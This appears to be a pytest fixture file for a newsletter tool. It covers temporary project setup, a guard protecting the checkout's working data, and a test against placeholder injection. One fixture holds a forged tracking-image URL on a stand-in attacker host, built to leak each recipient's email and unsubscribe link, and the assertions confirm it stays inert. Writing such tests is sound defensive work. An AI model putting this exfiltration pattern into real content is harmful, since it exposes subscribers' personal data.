"""Shared test fixtures: a project folder with a valid config in a temporary directory,
the fixture feeds, issue and subscriber files, and the CLI runner.

Tests never touch the checkout's working data (issues/, .cache/, build/, outbox/, the
database, test-artifacts/): an editor following the README in the checkout must not
break the suite, nor the suite the editor's files. Tests run from a temporary working
directory, work on copies, and a guard fails the run if any of those changed.
"""

from __future__ import annotations

import copy
import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import lxml.html
import pytest
import yaml

from newsletter import issuefile, shutdown
from newsletter.config import Settings, load_settings
from newsletter.models import Issue, Recipient

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).resolve().parent / "fixtures"
# The tests' own copy of the shipped example issue: the checkout's issues/ is the editor's.
EXAMPLE_ISSUE = FIXTURES / "issues" / "2024-10-25.yaml"
# The checkout's working data: what the README's commands write, run in the checkout.
WORKING_DATA = (
    "issues",
    ".cache",
    "build",
    "outbox",
    "demo",
    "test-artifacts",
    "samples",
    "templates",
    "config.yaml",
    "newsletter.db",
    "newsletter.db-wal",
    "newsletter.db-shm",
)

# Content that imitates the per-recipient placeholders (issue 10): a feed's tracking image
# would learn each reader's address and unsubscribe link if content could fill them in.
FORGED_SUBJECT = "For %%email%%: the week"
FORGED_IMAGE = "https://evil.example/p.gif?e=%%email%%&u=%%unsubscribe_url%%"
VICTIM = Recipient(
    email="victim@example.net",
    name="Vic Tim",
    unsubscribe_url="https://news.example.org/unsubscribe/victim-token",
    preferences_url="https://news.example.org/preferences/victim-token",
)


def _deep_merge(base: dict[str, Any], extra: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(base)
    for key, value in extra.items():
        if isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = _deep_merge(out[key], value)
        else:
            out[key] = value
    return out


# The render check opens Chromium (seconds per email): the suite turns it off in its
# project config, and tests/test_check.py turns it on where it is the subject.
SUITE_CONFIG: dict[str, Any] = {"render_check": {"on_build": "off", "on_send": "off"}}


def suite_config() -> dict[str, Any]:
    """The repository's config.yaml with the suite's overrides."""
    data = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
    return _deep_merge(data, SUITE_CONFIG)


def _working_data() -> dict[str, tuple[int, int]]:
    """Path -> (size, mtime) of every file of the checkout's working data."""
    found: dict[str, tuple[int, int]] = {}
    for name in WORKING_DATA:
        top = ROOT / name
        for path in [top, *top.rglob("*")] if top.is_dir() else [top]:
            if path.is_file():
                stat = path.stat()
                found[str(path.relative_to(ROOT))] = (stat.st_size, stat.st_mtime_ns)
    return found


@pytest.fixture(scope="session", autouse=True)
def _checkout_untouched(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """Run from a temporary directory (so a relative path lands there, not in the
    checkout) and fail if the checkout's working data changed during the run."""
    before = _working_data()
    cwd = os.getcwd()
    os.chdir(tmp_path_factory.mktemp("cwd"))
    try:
        yield
    finally:
        os.chdir(cwd)
    after = _working_data()
    changed = sorted(p for p in before.keys() | after.keys() if before.get(p) != after.get(p))
    if changed:
        pytest.fail(
            f"the checkout's working data changed during the test run: {', '.join(changed[:10])}", pytrace=False
        )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project folder in tmp_path: the repository's config and templates, with the test
    fixtures as its issues and its sample feeds (feeds with the traps a real feed has)."""
    shutil.copytree(ROOT / "templates", tmp_path / "templates")
    shutil.copytree(FIXTURES / "issues", tmp_path / "issues")
    shutil.copytree(FIXTURES / "feeds", tmp_path / "samples" / "feeds")
    (tmp_path / "config.yaml").write_text(
        yaml.safe_dump(suite_config(), allow_unicode=True, sort_keys=False), encoding="utf-8"
    )
    return tmp_path


@pytest.fixture
def write_config(project: Path) -> Callable[..., Path]:
    """Write project/config.yaml as the repository's config merged with ``overrides``."""

    def write(overrides: dict[str, Any] | None = None, name: str = "config.yaml") -> Path:
        data = _deep_merge(suite_config(), overrides or {})
        path = project / name
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
        return path

    return write


@pytest.fixture
def settings(project: Path) -> Settings:
    """The repository's config, loaded from the temporary project folder."""
    return load_settings(project / "config.yaml", env={})


@pytest.fixture
def fixtures_dir() -> Path:
    return FIXTURES


def forged_placeholder_issue() -> Issue:
    """The example issue with placeholder look-alikes in its subject, its round-up's text
    and image URL, and a teaser's excerpt."""
    issue = issuefile.load(EXAMPLE_ISSUE)
    assert issue.roundup is not None
    body = (
        issue.roundup.body_html
        + "<p>Write to %%email%% or %%unsubscribe_url%%.</p>"
        + f'<img src="{FORGED_IMAGE.replace("&", "&amp;")}" alt="A chart">'
    )
    teaser = issue.teasers[0].model_copy(update={"excerpt": "Reply to %%email%% (%%name%%)."})
    return issue.model_copy(
        update={
            "subject": FORGED_SUBJECT,
            "roundup": issue.roundup.model_copy(update={"body_html": body}),
            "teasers": [teaser, *issue.teasers[1:]],
        }
    )


def assert_only_templates_personalize(subject: str, html: str, text: str, recipient: Recipient = VICTIM) -> None:
    """The parts of ``forged_placeholder_issue`` as ``recipient`` gets them: their address
    and unsubscribe URL only where the templates put them, the look-alikes literally."""
    assert subject == FORGED_SUBJECT
    doc = lxml.html.document_fromstring(html)
    shown = " ".join(doc.text_content().split())
    assert html.count(recipient.email) == 1 and f"Sent to {recipient.email}" in shown
    hrefs = [(a.get("href", ""), a.text_content()) for a in doc.iter("a")]
    assert [h for h in hrefs if recipient.unsubscribe_url in h[0]] == [(recipient.unsubscribe_url, "Unsubscribe")]
    assert html.count(recipient.unsubscribe_url) == 1
    assert [h for h in hrefs if h[0] == recipient.preferences_url] == [(recipient.preferences_url, "Preferences")]
    assert FORGED_IMAGE in [img.get("src") for img in doc.iter("img")]
    assert "Write to %%email%% or %%unsubscribe_url%%." in shown and "Reply to %%email%% (%%name%%)." in shown
    assert text.count(recipient.email) == 1 and f"Sent to {recipient.email}" in text
    assert text.count(recipient.unsubscribe_url) == 1 and f"Unsubscribe: {recipient.unsubscribe_url}" in text
    assert "Write to %%email%% or %%unsubscribe_url%%." in text and "Reply to %%email%% (%%name%%)." in text
    assert recipient.name not in html + text  # the templates do not use the name


@pytest.fixture(autouse=True)
def _no_stop_request() -> Iterator[None]:
    """A test that stops a send or the scheduler in-process leaves no stop request to the
    next test of this worker (see newsletter.shutdown)."""
    yield
    shutdown.reset()


def pytest_addoption(parser: pytest.Parser) -> None:
    parser.addoption(
        "--long", action="store_true", help="run the randomized send model (tests/send/test_model.py) on many seeds"
    )
